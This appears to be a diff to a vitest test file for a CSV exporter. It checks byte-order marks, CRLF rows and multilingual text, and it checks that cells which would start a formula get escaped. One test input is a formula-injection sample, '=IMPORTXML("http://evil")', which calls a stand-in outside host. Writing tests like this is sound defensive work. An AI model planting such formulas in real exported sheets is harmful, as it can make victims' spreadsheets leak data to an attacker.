@@ -3,7 +3,7 @@
  * on semicolons (Excel in most European locales), and never starts a formula, in ASCII or full-width signs.
  */
 import { describe, expect, it } from 'vitest';
-import { csvCell, toCsv } from '../../src/domain/csv.js';
+import { csvCell, csvTable, toCsv } from '../../src/domain/csv.js';
 import { parseCsv } from '../support/csv.js';
 
 /** The cell as a spreadsheet splitting on `separator` reads it back: one field, or more if it was split. */
@@ -96,5 +96,45 @@ describe('CSV cells', () => {
       ['x;=1+1', '; @SUM(A1)', '-3'],
     ]);
     for (const field of parseCsv(csv, ';').flat()) expect(field.trimStart()).not.toMatch(/^[=+\-@]/);
+  });
+
+  it('a sheet for people starts with a byte-order mark, ends rows in CRLF and keeps Turkish, Persian and Finnish text intact', () => {
+    const csv = csvTable(
+      ['Müşteri', 'مشتری', 'Asiakas'],
+      [
+        ['Çağrı Ağ Hizmetleri', 'شرکت پارس‌گستر', 'Säätiö Öljy & Jää'],
+        ['İstanbul, Şişli', 'تهران؛ ونک', 'Hämeenlinna "Häme"'],
+      ],
+      { bom: true },
+    );
+    expect(csv.startsWith('\uFEFFMüşteri,مشتری,Asiakas\r\n')).toBe(true);
+    expect(csv.endsWith('\r\n')).toBe(true);
+    // Bytes as a spreadsheet receives them: EF BB BF, then UTF-8 all the way.
+    const bytes = new TextEncoder().encode(csv);
+    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)).toBe(csv);
+    expect(parseCsv(csv.slice(1))).toEqual([
+      ['Müşteri', 'مشتری', 'Asiakas'],
+      ['Çağrı Ağ Hizmetleri', 'شرکت پارس‌گستر', 'Säätiö Öljy & Jää'],
+      ['İstanbul, Şişli', 'تهران؛ ونک', 'Hämeenlinna "Häme"'],
+    ]);
+  });
+
+  it('a sheet keeps numbers as numbers and guards cells that would start a formula, whatever the script', () => {
+    const csv = csvTable(
+      ['Name', 'Monthly value'],
+      [
+        ['=IMPORTXML("http://evil")', 15000],
+        ['-Ödeme', -2.5],
+        ['@ایران', null],
+      ],
+    );
+    expect(csv.startsWith('\uFEFF')).toBe(false);
+    expect(parseCsv(csv)).toEqual([
+      ['Name', 'Monthly value'],
+      ['\'=IMPORTXML("http://evil")', '15000'],
+      ["'-Ödeme", '-2.5'],
+      ["'@ایران", ''],
+    ]);
   });
 });
